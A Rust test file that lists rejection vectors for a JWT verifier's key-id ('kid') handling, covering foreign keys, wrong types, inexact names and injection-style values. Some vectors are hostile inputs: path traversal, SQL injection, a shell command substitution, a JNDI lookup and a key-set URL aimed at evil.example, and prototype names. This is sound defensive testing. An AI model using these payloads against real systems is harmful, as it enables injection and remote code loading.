//! Which key: unknown names, names that are something else, keys that a token brings along.

use serde_json::{Value, json};

use super::{headed, pass_of, reject, with, without};
use crate::keys;
use crate::{Vector, good_claims};

pub(super) fn vectors() -> Vec<Vector> {
    let key = keys::first();
    let named = |kid: Value| with(key.header(), "kid", kid).to_string();
    let mut vectors = vec![
        reject("an unpublished key under its own name", pass_of(&keys::foreign()), "nobody published this key"),
        reject(
            "an unpublished key under our key's name",
            keys::foreign().token(key.header().to_string(), good_claims().to_string()),
            "the signature is not this key's",
        ),
        reject(
            "the name of another published key",
            headed(&named(json!(keys::second().kid()))),
            "a key answers only for its own signatures",
        ),
        reject(
            "no kid",
            headed(&without(key.header(), "kid").to_string()),
            "the key must be named: trying all of them is guessing",
        ),
    ];
    for (name, kid, reason) in [
        ("kid is empty", json!(""), "no key has this name"),
        ("kid is a number", json!(0), "kid is a text"),
        ("kid is null", Value::Null, "kid is a text"),
        ("kid is a list", json!([key.kid()]), "kid is a text"),
        ("kid is an object", json!({"kid": key.kid()}), "kid is a text"),
        ("kid in another case", json!(key.kid().to_ascii_lowercase()), "names of keys are exact"),
        ("kid with a space behind it", json!(format!("{} ", key.kid())), "names of keys are exact"),
        ("kid with a zero byte behind it", json!(format!("{}\0", key.kid())), "names of keys are exact"),
        (
            "kid is a path",
            json!("../../../../dev/null"),
            "a name is looked up in the set and used for nothing else (RFC 8725 §3.10)",
        ),
        (
            "kid is a path to the key set",
            json!("/queue/jwks.json"),
            "a name is looked up in the set and used for nothing else",
        ),
        (
            "kid is SQL",
            json!("' UNION SELECT 'secret' -- "),
            "a name is looked up in the set and used for nothing else",
        ),
        (
            "kid is a shell command",
            json!("$(touch /tmp/pwned)"),
            "a name is looked up in the set and used for nothing else",
        ),
        (
            "kid is a template",
            json!("${jndi:ldap://evil.example/a}"),
            "a name is looked up in the set and used for nothing else",
        ),
        ("kid is a URL", json!("https://evil.example/jwks.json"), "keys come from the configured address only"),
        (
            "kid is a name that objects have",
            json!("__proto__"),
            "a name is looked up among the set's, not among what a language adds",
        ),
        (
            "kid is a method's name",
            json!("constructor"),
            "a name is looked up among the set's, not among what a language adds",
        ),
        ("kid is very long", json!("k".repeat(2_000)), "no key has this name"),
    ] {
        vectors.push(reject(name, headed(&named(kid)), reason));
    }
    vectors
}
